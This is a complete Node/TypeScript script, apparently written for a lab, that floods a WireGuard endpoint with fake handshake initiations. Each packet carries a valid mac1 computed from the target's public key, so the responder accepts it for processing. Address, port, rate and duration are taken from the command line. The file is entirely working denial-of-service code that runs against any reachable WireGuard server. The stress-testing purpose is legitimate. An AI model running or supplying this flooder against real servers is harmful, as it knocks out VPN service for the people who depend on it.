/**
 * A program of the lab that puts a WireGuard under load: sends handshake initiations with a valid
 * first MAC and nothing else that is right, which is all that a stranger can make of a public key.
 *
 *     node flood.js ADDRESS PORT PUBLICKEY PER_SECOND SECONDS
 */

import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { blake2s } from '@noble/hashes/blake2.js';

const INITIATION_BYTES = 148;
const MAC1_OFFSET = 116;
const MAC_BYTES = 16;
const TICK_MS = 5;
const MS_PER_S = 1000;

const [address, port, publicKey, perSecond, seconds] = process.argv.slice(2);
// Whitepaper 5.4.4: the key of mac1 is HASH(LABEL-MAC1 || the responder's public key).
const label = Buffer.concat([Buffer.from('mac1----'), Buffer.from(publicKey, 'base64')]);
const key = blake2s(label);
const socket = createSocket(address.includes(':') ? 'udp6' : 'udp4');
const start = performance.now();
let sent = 0;

const timer = setInterval(() => {
  const elapsed = performance.now() - start;
  while (sent < (elapsed / MS_PER_S) * Number(perSecond)) {
    socket.send(initiation(), Number(port), address);
    sent++;
  }
  if (elapsed > Number(seconds) * MS_PER_S) {
    clearInterval(timer);
    socket.close();
    console.log(`sent ${sent}`);
  }
}, TICK_MS);
console.log('flooding');

function initiation(): Buffer {
  const message = randomBytes(INITIATION_BYTES);
  message.writeUInt32LE(1, 0);
  const mac = blake2s(message.subarray(0, MAC1_OFFSET), { key, dkLen: MAC_BYTES });
  message.set(mac, MAC1_OFFSET);
  message.fill(0, MAC1_OFFSET + MAC_BYTES);
  return message;
}
